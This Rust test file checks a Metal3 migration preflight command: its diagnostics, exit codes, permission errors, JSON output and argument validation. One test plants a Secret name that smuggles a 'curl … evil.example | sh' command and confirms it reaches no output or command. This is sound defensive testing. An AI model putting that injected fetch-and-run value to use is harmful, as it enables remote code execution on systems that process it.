//! What a switch would meet, as users ask for it.

use std::collections::BTreeSet;

use k8s_openapi::api::apps::v1::Deployment;
use k8s_openapi::api::core::v1::{ConfigMap, Secret};
use metal3_api::catalog;
use metal3_api::metal3::v1alpha1::BareMetalHost;
use metal3_manager::preflight::parse;
use metal3_sim_faults::{Fault, Plan, Rule};
use serde_json::{Value, json};

use crate::environment::{NAMESPACE, TestCluster};

/// Where the Go manager's manifest mounts a login of Ironic.
const LOGIN: &str = "/opt/metal3/auth/ironic";

async fn answer(world: &TestCluster, line: &str) -> (String, u8) {
    let (wanted, _) = parse(line.split_whitespace().map(str::to_owned)).unwrap();
    wanted.run(&world.cluster.client("user")).await.unwrap()
}

/// A Go host manager with its settings, a registered host, and one that is not registered yet.
async fn live_installation(endpoint: &str, login: &str, secret: &str) -> TestCluster {
    let world = TestCluster::empty().await;
    world.cluster.install(&catalog::definitions()).unwrap();
    let config = json!({ "metadata": { "name": "ironic" }, "data": { "IRONIC_ENDPOINT": endpoint } });
    world.create::<ConfigMap>(config).await;
    let container = json!({ "name": "manager", "image": "quay.io/metal3-io/baremetal-operator:v0.12.1",
        "args": ["--enable-leader-election", "--webhook-port=9443", "--hostclaims"], "envFrom": [{ "configMapRef": { "name": "ironic" } }],
        "volumeMounts": [{ "name": "login", "mountPath": login }] });
    let deployment = json!({ "metadata": { "name": "baremetal-operator-controller-manager" },
        "spec": { "replicas": 1, "selector": { "matchLabels": { "a": "b" } },
            "template": { "metadata": { "labels": { "a": "b" } }, "spec": { "containers": [container] } } } });
    world.create::<Deployment>(deployment).await;
    world.create::<Secret>(json!({ "metadata": { "name": "bmc" } })).await;
    let bmc = json!({ "address": "redfish://192.0.2.1/x", "credentialsName": secret });
    let host = json!({ "metadata": { "name": "new" }, "spec": { "online": false, "bmc": bmc } });
    world.create::<BareMetalHost>(host).await;
    world
}

#[tokio::test(start_paused = true)]
async fn what_stops_a_switch_is_named_with_its_cure_and_nothing_is_written() {
    let world = live_installation("http://192.0.2.9:6385", LOGIN, "bmc").await;
    let (text, code) = answer(&world, "").await;
    assert_eq!(code, 4, "{text}");
    for part in [
        "From the Go managers to this program: no",
        &format!("hosts: Go manager {NAMESPACE}/baremetal-operator-controller-manager, 1 replicas"),
        "IRONIC_ENDPOINT begins with http://",
        &format!("kubectl label secret --namespace {NAMESPACE} bmc environment.metal3.io=baremetal"),
    ] {
        assert!(text.contains(part), "{part}: {text}");
    }
    let audit = world.cluster.audit();
    let verbs: BTreeSet<_> = audit
        .counts()
        .filter(|((user, ..), _)| user == "user")
        .map(|((_, verb, _), _)| *verb)
        .collect();
    assert_eq!(verbs, BTreeSet::from(["get", "list"]));
}

#[tokio::test(start_paused = true)]
async fn right_that_is_missing_is_named_and_the_decision_is_not_known() {
    let world = live_installation("https://192.0.2.9:6385", LOGIN, "bmc").await;
    let forbidden = Plan::none().with(Rule::random(1000, Fault::refused(403)).resource("baremetalhosts"));
    world.cluster.inject_for(&["user"], forbidden);
    let (text, code) = answer(&world, "").await;
    assert_eq!(code, 5, "{text}");
    assert!(
        text.contains("kubectl auth can-i list baremetalhosts.metal3.io"),
        "{text}"
    );
}

/// The manifests of the Go manager as they are: an Ironic without a login, and a flag that this program refuses.
#[tokio::test(start_paused = true)]
async fn stock_installation_can_be_switched_and_a_hostile_name_reaches_no_command() {
    let hostile = "bmc?x&curl${IFS}evil.example|sh;";
    let world = live_installation("http://172.22.0.2:6385/v1/", "/tmp/cert", hostile).await;
    let (text, code) = answer(&world, "").await;
    assert_eq!(code, 0, "{text}");
    assert!(text.contains("--hostclaims:") && text.contains("do not copy"), "{text}");
    assert!(!text.contains("evil.example"), "{text}");
    let audit = world.cluster.audit();
    let mut of_secrets = audit
        .counts()
        .filter(|((user, _, resource), _)| user == "user" && resource.contains("secrets"));
    assert_eq!(of_secrets.next(), None, "no Secret of such a name is asked for");
}

#[tokio::test(start_paused = true)]
async fn way_back_and_output_for_programs() {
    let world = live_installation("https://192.0.2.9:6385", LOGIN, "bmc").await;
    let (text, code) = answer(&world, "--back --to 1.13 -o json").await;
    let report: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(
        (code, &report["decision"], &report["direction"]["back"]),
        (0, &json!("go"), &json!("1.13")),
        "{text}"
    );
    assert_eq!(report["managers"][0]["series"], "0.12");
}

#[test]
fn invalid_arguments_are_named() {
    for (line, part) in [
        ("--to 1.13", "add --back"),
        ("--back --to newest", "is no series"),
        ("--back --to 0.14", "is no series"),
        ("--force", "--force"),
        ("-o xml", "-o \"xml\""),
    ] {
        let error = parse(line.split_whitespace().map(str::to_owned)).unwrap_err();
        assert!(format!("{error:#}").contains(part), "{line}: {error:#}");
    }
}
